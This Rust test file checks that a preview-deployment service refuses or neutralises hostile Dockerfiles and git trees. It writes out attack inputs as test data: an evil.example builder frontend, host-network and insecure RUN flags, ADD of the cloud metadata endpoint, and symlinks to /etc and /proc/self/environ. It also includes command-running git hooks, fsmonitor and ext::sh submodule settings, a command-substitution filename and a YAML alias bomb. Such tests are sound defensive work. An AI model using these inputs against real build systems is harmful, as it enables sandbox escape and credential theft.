//! Trees and Dockerfiles that mean harm, from git's objects to what would be built: each is refused, or harmless.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use preview_core::deployment::Blame;
use preview_core::framework::{BuildRules, Detected, detect};
use preview_core::ids::CommitSha;
use preview_core::repo_config::RepoConfig;
use preview_core::trust::Trust;
use preview_orchestrator::needs::Checkout;

use crate::world::{NOWHERE, World, names};

/// What stands in a file beside the checkouts, and nowhere else may.
const CANARY: &str = "canary-of-the-host";
/// What a program of theirs that was run, or a file of theirs that got out, would be called.
const ESCAPED: &str = "escaped";

/// One entry of a tree: mode, path, and the content, target or commit.
type Entry = (&'static str, String, Vec<u8>);

/// A tree, whose it is, and what is said of it: nothing, if it may be built.
struct Tree {
    entries: Vec<Entry>,
    trust: Trust,
    says: &'static str,
}

fn entry(mode: &'static str, path: &str, content: impl Into<Vec<u8>>) -> Entry {
    (mode, path.to_owned(), content.into())
}

fn file(path: &str, content: impl Into<Vec<u8>>) -> Entry {
    entry("100644", path, content)
}

fn link(path: &str, target: &str) -> Entry {
    entry("120000", path, target)
}

/// A tree of a member's with these entries.
fn tree(says: &'static str, entries: impl IntoIterator<Item = Entry>) -> Tree {
    Tree { entries: entries.into_iter().collect(), trust: Trust::Member, says }
}

fn dockerfile(says: &'static str, text: impl Into<Vec<u8>>) -> Tree {
    tree(says, [file("Dockerfile", text)])
}

fn strangers(says: &'static str, text: &str) -> Tree {
    Tree { trust: Trust::Stranger, ..dockerfile(says, text) }
}

/// Dockerfiles that want more than a build gets.
fn dockerfiles() -> Vec<Tree> {
    const FRONTEND: &str = "names a frontend that is not Docker's own";
    const STEERS: &str = "steers the builder itself";
    const RIGHTS: &str = "no build step gets the host's network or further rights";
    const FOREIGN: &str = "images of previews can't be built upon";
    const NEAR: &str = "would be fetched on the server's own network";
    const ADDRESS: &str = "is only for people who can write to this repository";
    const NOTHING: &str = "this is not a Dockerfile instruction";
    vec![
        dockerfile(FRONTEND, "# syntax=evil.example/frontend\nFROM scratch\n"),
        dockerfile(FRONTEND, "# escape=`\n#Syntax = docker/dockerfile-upstream:master\nFROM scratch\n"),
        dockerfile(FRONTEND, "\u{FEFF}#!/bin/sh\n# syntax=evil\nFROM scratch\n"),
        dockerfile(NOTHING, "// syntax=evil\nFROM scratch\n"),
        dockerfile(NOTHING, "{\"syntax\": \"evil\"}"),
        dockerfile(STEERS, "ARG BUILDKIT_SYNTAX=evil.example/frontend\nFROM scratch\n"),
        dockerfile(STEERS, "FROM scratch\nARG BUILDKIT_CACHE_MOUNT_NS=8-trusted\n"),
        dockerfile(RIGHTS, "FROM scratch\nRUN --network=host [\"/x\"]\n"),
        dockerfile(RIGHTS, "FROM scratch\nRUN --mount=type=cache,target=/x --security=insecure [\"/x\"]\n"),
        dockerfile(RIGHTS, "FROM scratch\nONBUILD RUN --net\\\nwork=host [\"/x\"]\n"),
        dockerfile(FOREIGN, "FROM preview-deployer/org-secret-3:latest\n"),
        dockerfile(FOREIGN, "FROM scratch\nCOPY --from=preview-deployer/org-secret-3 / /\n"),
        dockerfile(
            FOREIGN,
            "FROM scratch\nRUN --mount=type=bind,from=preview-deployer/org-secret-3,target=/x [\"/x\"]\n",
        ),
        dockerfile(NEAR, "FROM scratch\nADD http://127.0.0.1:3000/api/previews /x\n"),
        dockerfile(NEAR, "FROM scratch\nADD http://169.254.169.254/latest/meta-data /x\n"),
        dockerfile(NEAR, "ARG AT=[::ffff:127.0.0.1]\nFROM scratch\nADD http://$AT/ /x\n"),
        strangers(ADDRESS, "FROM scratch\nADD https://example.com/x /x\n"),
        strangers(ADDRESS, "FROM scratch\nRUN <<CMD\nA\\\nDD git@example.com:a/b.git /x\nCMD\n"),
        strangers(ADDRESS, "FROM scratch\nARG SOURCE\nADD $SOURCE /x\n"),
        dockerfile("it has more than 65536 bytes", format!("FROM scratch\n{}", "#".repeat(70_000))),
        dockerfile("is larger than", vec![b'#'; 5 << 20]),
        dockerfile("is not UTF-8 text", b"FROM scratch\nLABEL a=\xff\xfe\n"),
        dockerfile("it has no `FROM`", "# nothing\n"),
        // What is long but means nothing is read quickly.
        dockerfile("", format!("FROM scratch\nRUN x {}\n", "\\\n".repeat(30_000))),
        dockerfile("", format!("FROM scratch\n{}", "RUN <<A\n".repeat(8_000))),
    ]
}

/// Trees whose links, names, modes or orders would lead out of the checkout.
fn trees(canary: &Path) -> Vec<Tree> {
    const LINK: &str = "links are not followed";
    const REFUSED: &str = "can't be checked out: git refuses";
    let fine = || file("Dockerfile", "FROM scratch\n");
    let own = |path: &str| file("preview-config.yml", format!("framework: docker\ndockerfile: {path}\n"));
    let hook = format!("#!/bin/sh\ntouch {}\n", canary.with_file_name(ESCAPED).display());
    let orders = format!("[core]\n\tfsmonitor = touch {ESCAPED}\n\tworktree = /etc\n\thooksPath = .\n");
    let canary = canary.to_str().unwrap();
    let bomb = (0..40).map(|n| format!("a{n}: &a{n} [*a{m}, *a{m}, *a{m}]\n", m = n - 1));
    let bomb = format!("a-1: &a-1 x\n{}", bomb.collect::<String>());
    vec![
        tree(LINK, [link("Dockerfile", canary)]),
        tree(LINK, [link("Dockerfile", "/proc/self/environ")]),
        tree(LINK, [fine(), link("preview-config.yml", canary)]),
        tree(LINK, [link("docker", "/etc"), own("docker/passwd")]),
        tree(LINK, [link("a", "b"), link("b", "a"), own("a/Dockerfile")]),
        tree(LINK, [link("go.mod", canary)]),
        tree(LINK, [link("package.json", canary)]),
        tree(LINK, [link("docker-compose.preview.yml", canary)]),
        tree("is not a regular file", [file("Dockerfile/inside", "FROM scratch\n")]),
        tree("is not a regular file", [entry("160000", "Dockerfile", NOWHERE)]),
        tree("`dockerfile` must be", [own("../../../../etc/passwd")]),
        tree("`dockerfile` must be", [own(canary)]),
        tree("too many values", [fine(), file("preview-config.yml", bomb)]),
        tree(
            "include",
            [file("docker-compose.preview.yml", "include: [oci://evil.example/x]\nservices: {app: {build: .}}\n")],
        ),
        tree(REFUSED, [entry("100755", ".git/hooks/post-checkout", hook.clone()), fine()]),
        tree(REFUSED, [file(".GIT/config", orders.clone()), fine()]),
        tree(REFUSED, [file("git~1/config", orders.clone()), fine()]),
        tree(REFUSED, [file(&format!("../{ESCAPED}"), "x"), fine()]),
        tree(REFUSED, [file(&format!("a/../../{ESCAPED}"), "x"), fine()]),
        tree(
            "",
            [
                file(".gitconfig", orders.clone()),
                file("config", orders),
                entry("100755", "hooks/post-checkout", hook),
                fine(),
            ],
        ),
        tree("", [file(".gitattributes", "* filter=lfs diff=lfs merge=lfs text eol=crlf\n"), fine()]),
        tree("", [file(".lfsconfig", "[lfs]\n\turl = http://127.0.0.1:1/\n"), fine()]),
        tree(
            "",
            [
                file(".gitmodules", format!("[submodule \"s\"]\n\tpath = s\n\turl = ext::sh -c touch% {ESCAPED}\n")),
                entry("160000", "s", NOWHERE),
                fine(),
            ],
        ),
        tree("", [link(".dockerignore", canary), link("etc", "/etc"), link("up", "../../.."), fine()]),
        tree(
            "",
            [
                file(&format!("$(touch {ESCAPED})"), "x"),
                file("-rf", "x"),
                file("a\nb\r", "x"),
                file("\u{202e}x", "x"),
                fine(),
            ],
        ),
    ]
}

impl World {
    /// Writes a tree of paths, checking nothing: parts such as `..` and `.git` are names like any other.
    async fn paths(&self, entries: Vec<(&'static str, Vec<String>, Vec<u8>)>) -> String {
        let mut folders: BTreeMap<String, Vec<_>> = BTreeMap::new();
        let mut here = Vec::new();
        for (mode, mut path, content) in entries {
            let name = path.remove(0);
            match path.is_empty() {
                false => folders.entry(name).or_default().push((mode, path, content)),
                true if mode == "160000" => here.push((mode, name, String::from_utf8(content).unwrap())),
                true => here.push((mode, name, self.blob(content).await)),
            }
        }
        for (name, inside) in folders {
            here.push(("40000", name, Box::pin(self.paths(inside)).await));
        }
        // As git sorts them: a folder as if its name ended in a slash.
        here.sort_by_key(|(mode, name, _)| if *mode == "40000" { format!("{name}/") } else { name.clone() });
        let here: Vec<_> = here.iter().map(|(mode, name, object)| (*mode, name.as_str(), object.as_str())).collect();
        self.tree(&here).await
    }

    async fn commit_of(&self, entries: &[Entry]) -> CommitSha {
        let parts = |path: &str| path.split('/').map(str::to_owned).collect();
        let entries = entries.iter().map(|(mode, path, content)| (*mode, parts(path), content.clone())).collect();
        let tree = self.paths(entries).await;
        self.commit(&tree).await
    }
}

/// What the service finds in a checkout, or tells its author.
fn read(checkout: &Checkout, trust: Trust) -> Result<Detected, String> {
    let config = RepoConfig::load(&*checkout.files).map_err(|error| error.to_string())?;
    let rules = BuildRules { base_images: Default::default(), trust };
    detect(&*checkout.files, &config, &rules).map_err(|error| format!("{error}\n{:?}", error.details()))
}

/// Every name beneath a folder, links not followed.
fn beneath(folder: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
        found.push(entry.file_name().to_string_lossy().into_owned());
        if entry.file_type().unwrap().is_dir() {
            found.extend(beneath(&entry.path()));
        }
    }
    found
}

#[tokio::test]
async fn hostile_dockerfiles_and_trees_are_refused_or_harmless() {
    let world = World::new().await;
    let canary = world.dir.path().join("canary");
    fs::write(&canary, CANARY).unwrap();
    let all = dockerfiles().into_iter().chain(trees(&canary)).collect::<Vec<_>>();
    assert!(all.len() >= 30, "{}", all.len());
    for Tree { entries, trust, says } in all {
        let about = entries.iter().map(|(mode, path, _)| format!("{mode} {path:?}")).collect::<Vec<_>>().join(", ");
        let commit = world.commit_of(&entries).await;
        let checkout = world.checkout(&commit).await;
        let begun = Instant::now();
        let told = match &checkout {
            Ok(checkout) => read(checkout, trust),
            Err(fault) => {
                assert_eq!(fault.blame, Blame::Author, "{about}: {fault:?}");
                Err(fault.cause.clone())
            }
        };
        assert!(begun.elapsed() < Duration::from_secs(1), "{about}: read in {:?}", begun.elapsed());
        match &told {
            Ok(detected) => assert!(says.is_empty(), "{about} is taken: {detected:?}"),
            Err(told) => assert!(!says.is_empty() && told.contains(says), "{about}: {told}, not {says:?}"),
        }
        assert!(!format!("{told:?}").contains(CANARY), "{about}: {told:?}");
        assert_eq!(fs::read_to_string(&canary).unwrap(), CANARY, "{about}");
        let outside = beneath(world.dir.path()).into_iter().filter(|name| name == ESCAPED).collect::<Vec<_>>();
        assert_eq!(outside, [""; 0], "{about}");
        assert_eq!(names(world.dir.path()), ["canary", "deployments", "lock", "mirrors", "server"], "{about}");
    }
}

/// No program makes them, but nothing keeps anybody from writing such numbers into a tree.
#[tokio::test]
async fn devices_and_pipes_of_a_tree_become_plain_files_or_nothing() {
    let world = World::new().await;
    for mode in ["60000", "20000", "10000", "140000", "104755", "102755"] {
        let commit = world.commit_of(&[(mode, "Dockerfile".to_owned(), b"FROM scratch\n".to_vec())]).await;
        match world.checkout(&commit).await {
            Ok(checkout) => {
                let about = fs::symlink_metadata(checkout.dir.join("Dockerfile")).unwrap();
                let mode_now = std::os::unix::fs::PermissionsExt::mode(&about.permissions());
                assert!(about.is_file() || about.is_dir(), "{mode}: {about:?}");
                assert_eq!(mode_now & 0o7000, 0, "{mode}: neither set-user-id nor set-group-id");
            }
            Err(fault) => assert_eq!(fault.blame, Blame::Author, "{mode}: {fault}"),
        }
    }
}
